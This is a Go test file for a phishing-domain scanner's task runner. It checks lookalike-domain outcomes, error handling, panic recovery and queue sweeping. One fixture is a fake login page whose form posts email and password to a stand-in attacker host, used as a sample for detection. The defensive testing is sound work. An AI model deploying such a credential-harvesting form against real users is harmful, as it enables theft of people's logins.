package scanrunner

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"gonephishing/internal/adapters/sqlite"
	"gonephishing/internal/config"
	"gonephishing/internal/domain"
	"gonephishing/internal/logging"
	"gonephishing/internal/ports"
	"gonephishing/internal/services/fetcher"
	"gonephishing/internal/services/ownership"
	"gonephishing/internal/services/scoring"
)

const phishingPage = `<html><head><title>Example account login</title></head><body>
<form action="https://collect.evil.net/post" method="post">
  <input type="email" name="email"><input type="password" name="password">
</form></body></html>`

type fakeOwnership struct {
	results map[string]ownership.Result
}

func (f *fakeOwnership) Resolve(_ context.Context, _, candidate string) (ownership.Result, error) {
	if candidate == "examle.com" {
		panic("resolver exploded")
	}
	if res, ok := f.results[candidate]; ok {
		return res, nil
	}
	return ownership.Result{IPs: []string{"203.0.113.10"}, Status: domain.LookupUnknown}, nil
}

type fakeFetcher struct {
	mu     sync.Mutex
	pages  map[string]*fetcher.Page
	errs   map[string]error
	called []string
}

func (f *fakeFetcher) Fetch(_ context.Context, _, candidate string) (*fetcher.Page, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.called = append(f.called, candidate)
	if err := f.errs[candidate]; err != nil {
		return nil, err
	}
	if p, ok := f.pages[candidate]; ok {
		return p, nil
	}
	return &fetcher.Page{}, nil
}

func (f *fakeFetcher) calls() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.called...)
}

type fakeReports struct {
	mu    sync.Mutex
	items []ports.ReportItem
	err   error
}

func (f *fakeReports) Report(_ context.Context, items []ports.ReportItem) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.items = append(f.items, items...)
	return f.err
}

type fakeEvents struct {
	mu      sync.Mutex
	updates []ports.TaskUpdate
}

func (f *fakeEvents) Publish(u ports.TaskUpdate) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.updates = append(f.updates, u)
}

type harness struct {
	store   *sqlite.DB
	fetch   *fakeFetcher
	reports *fakeReports
	events  *fakeEvents
	runner  *Runner
	jobID   int64
}

func newHarness(t *testing.T, candidates ...string) *harness {
	t.Helper()
	ctx := context.Background()
	store, err := sqlite.Open(ctx, ":memory:")
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(store.Close)

	jobID, err := store.CreateJob(ctx, "tester", []string{"example.com"})
	if err != nil {
		t.Fatal(err)
	}
	tasks := make([]domain.NewTask, len(candidates))
	for i, c := range candidates {
		tasks[i] = domain.NewTask{SeedDomain: "example.com", CandidateDomain: c}
	}
	if _, err := store.CreateTasks(ctx, jobID, tasks); err != nil {
		t.Fatal(err)
	}

	h := &harness{
		store: store,
		fetch: &fakeFetcher{
			pages: map[string]*fetcher.Page{
				"exampl.com": {
					Body: phishingPage, HTTPStatus: 200, HTTPReason: "OK",
					FinalURL: "http://exampl.com/", Responded: true,
				},
				"exammple.com": {
					Body: "<html><body>parked</body></html>", HTTPStatus: 200, HTTPReason: "OK",
					FinalURL: "http://exammple.com/", Responded: true,
				},
			},
			errs: map[string]error{},
		},
		reports: &fakeReports{},
		events:  &fakeEvents{},
		jobID:   jobID,
	}
	own := &fakeOwnership{results: map[string]ownership.Result{
		"examp1e.com":  {Status: domain.LookupNoIP},
		"exarnple.com": {IPs: []string{"93.184.216.34"}, Status: domain.LookupOwnedByOrigin},
	}}
	h.runner = New(Deps{
		Store:     store,
		Ownership: own,
		Fetcher:   h.fetch,
		Scorer:    scoring.New(config.DefaultDetection()),
		Reports:   h.reports,
		Events:    h.events,
	}, Options{PollInterval: 10 * time.Millisecond, StaleAfter: 10 * time.Minute}, logging.Discard())
	return h
}

func (h *harness) drain(t *testing.T) {
	t.Helper()
	for i := 0; ; i++ {
		processed, err := h.runner.RunOnce(context.Background(), "worker-1")
		if err != nil {
			t.Fatalf("RunOnce: %v", err)
		}
		if !processed {
			return
		}
		if i > 100 {
			t.Fatal("worker did not drain the queue")
		}
	}
}

func (h *harness) tasks(t *testing.T) map[string]domain.CandidateTask {
	t.Helper()
	list, err := h.store.ListTasks(context.Background(), h.jobID)
	if err != nil {
		t.Fatal(err)
	}
	out := make(map[string]domain.CandidateTask, len(list))
	for _, task := range list {
		out[task.CandidateDomain] = task
	}
	return out
}

func TestRunOnceOutcomes(t *testing.T) {
	h := newHarness(t, "exampl.com", "examp1e.com", "exarnple.com", "exanple.com", "exammple.com", "examle.com")
	h.drain(t)
	tasks := h.tasks(t)

	tests := []struct {
		candidate string
		state     domain.TaskState
		status    domain.LookupStatus
	}{
		{"exampl.com", domain.TaskDone, domain.LookupDanger},
		{"examp1e.com", domain.TaskDone, domain.LookupNoIP},
		{"exarnple.com", domain.TaskDone, domain.LookupOwnedByOrigin},
		{"exanple.com", domain.TaskDone, domain.LookupUnknown},
		{"exammple.com", domain.TaskDone, domain.LookupSafe},
		{"examle.com", domain.TaskError, domain.LookupError},
	}
	for _, tc := range tests {
		t.Run(tc.candidate, func(t *testing.T) {
			task, ok := tasks[tc.candidate]
			if !ok {
				t.Fatalf("task missing")
			}
			if task.State != tc.state || task.LookupStatus != tc.status {
				t.Fatalf("got %s/%s, want %s/%s", task.State, task.LookupStatus, tc.state, tc.status)
			}
			if task.ProcessedAt == nil {
				t.Fatalf("processed_at not set on terminal task")
			}
		})
	}

	danger := tasks["exampl.com"]
	if danger.RiskScore < 110 {
		t.Errorf("danger score = %d, want >= 110", danger.RiskScore)
	}
	if danger.HTTPStatus == nil || *danger.HTTPStatus != 200 || danger.PageTitle != "Example account login" {
		t.Errorf("http metadata not persisted: %+v", danger)
	}
	if got := tasks["exanple.com"].HTTPReason; got != "no response" {
		t.Errorf("no-response reason = %q", got)
	}
	if got := tasks["exarnple.com"].IPAddresses; len(got) != 1 || got[0] != "93.184.216.34" {
		t.Errorf("owned task IPs = %v", got)
	}
	if msg := tasks["examle.com"].Error; !strings.Contains(msg, "resolver exploded") {
		t.Errorf("panic message not recorded: %q", msg)
	}

	for _, c := range h.fetch.calls() {
		if c == "examp1e.com" || c == "exarnple.com" {
			t.Errorf("fetch attempted for short-circuited candidate %s", c)
		}
	}

	findings, err := h.store.ListFindings(context.Background(), h.jobID)
	if err != nil {
		t.Fatal(err)
	}
	if len(findings) != 1 || findings[0].CandidateDomain != "exampl.com" || findings[0].TaskID != danger.ID {
		t.Fatalf("findings = %+v", findings)
	}
	if len(h.reports.items) != 1 || h.reports.items[0].CandidateDomain != "exampl.com" {
		t.Fatalf("reported = %+v", h.reports.items)
	}
	if len(h.events.updates) != 6 {
		t.Fatalf("published %d updates, want 6", len(h.events.updates))
	}
}

func TestFetchErrorMarksTaskError(t *testing.T) {
	h := newHarness(t, "exampl.com")
	h.fetch.errs["exampl.com"] = context.DeadlineExceeded
	h.drain(t)

	task := h.tasks(t)["exampl.com"]
	if task.State != domain.TaskError || !strings.Contains(task.Error, "fetch") {
		t.Fatalf("task = %s %q", task.State, task.Error)
	}
	if len(h.reports.items) != 0 {
		t.Fatalf("errored task must not be reported")
	}
}

func TestReportFailureDoesNotAffectState(t *testing.T) {
	h := newHarness(t, "exampl.com")
	h.reports.err = errors.New("abuse endpoint down")
	h.drain(t)

	task := h.tasks(t)["exampl.com"]
	if task.State != domain.TaskDone || task.LookupStatus != domain.LookupDanger {
		t.Fatalf("task = %s/%s, want done/danger", task.State, task.LookupStatus)
	}
	progress, err := h.store.Progress(context.Background(), h.jobID)
	if err != nil {
		t.Fatal(err)
	}
	if progress.Findings != 1 {
		t.Fatalf("findings = %d, want 1", progress.Findings)
	}
}

type panickingStore struct {
	*sqlite.DB
	candidate string
}

func (s panickingStore) SaveTaskResult(ctx context.Context, t domain.CandidateTask) error {
	if t.CandidateDomain == s.candidate {
		panic("store exploded")
	}
	return s.DB.SaveTaskResult(ctx, t)
}

type panickingEvents struct{}

func (panickingEvents) Publish(ports.TaskUpdate) { panic("subscriber exploded") }

func TestPersistPanicKeepsWorkerAlive(t *testing.T) {
	h := newHarness(t, "exampl.com", "exammple.com")
	h.runner.deps.Store = panickingStore{DB: h.store, candidate: "exampl.com"}
	h.drain(t)

	tasks := h.tasks(t)
	if got := tasks["exampl.com"].State; got != domain.TaskProcessing {
		t.Fatalf("exampl.com state = %s, want processing until swept", got)
	}
	if got := tasks["exammple.com"].State; got != domain.TaskDone {
		t.Fatalf("exammple.com state = %s, want done", got)
	}
}

func TestEventPanicKeepsWorkerAlive(t *testing.T) {
	h := newHarness(t, "exampl.com", "exammple.com")
	h.runner.deps.Events = panickingEvents{}
	h.drain(t)

	for c, task := range h.tasks(t) {
		if task.State != domain.TaskDone {
			t.Errorf("%s state = %s, want done", c, task.State)
		}
	}
	if len(h.reports.items) != 1 {
		t.Fatalf("reports = %d, want 1", len(h.reports.items))
	}
}

func TestRunDrainsQueueAndStops(t *testing.T) {
	candidates := []string{"exampl.com", "examp1e.com", "exarnple.com", "exanple.com", "exammple.com", "examle.com"}
	for i := 0; i < 20; i++ {
		candidates = append(candidates, "parked"+string(rune('a'+i))+".com")
	}
	h := newHarness(t, candidates...)
	h.runner.opts.Workers = 3

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		h.runner.Run(ctx)
		close(done)
	}()

	deadline := time.Now().Add(10 * time.Second)
	for {
		p, err := h.store.Progress(context.Background(), h.jobID)
		if err != nil {
			t.Fatal(err)
		}
		if p.Complete() {
			if p.Processing != 0 || p.Done+p.Error != len(candidates) {
				t.Fatalf("progress = %+v", p)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("queue not drained: %+v", p)
		}
		time.Sleep(20 * time.Millisecond)
	}

	cancel()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Run did not return after cancellation")
	}
}

func TestSweepRequeuesAbandonedTask(t *testing.T) {
	h := newHarness(t, "exampl.com")
	ctx := context.Background()

	if _, found, err := h.store.ClaimNextPending(ctx, "crashed-worker"); err != nil || !found {
		t.Fatalf("claim: found=%v err=%v", found, err)
	}
	if processed, _ := h.runner.RunOnce(ctx, "worker-1"); processed {
		t.Fatal("claimed task must not be handed to a second worker")
	}

	h.runner.now = func() time.Time { return time.Now().Add(time.Hour) }
	requeued, failed, err := h.runner.Sweep(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if requeued != 1 || failed != 0 {
		t.Fatalf("requeued=%d failed=%d, want 1/0", requeued, failed)
	}

	h.runner.now = time.Now
	h.drain(t)
	task := h.tasks(t)["exampl.com"]
	if task.State != domain.TaskDone || task.Attempts != 2 {
		t.Fatalf("task after sweep = %s attempts=%d", task.State, task.Attempts)
	}
}
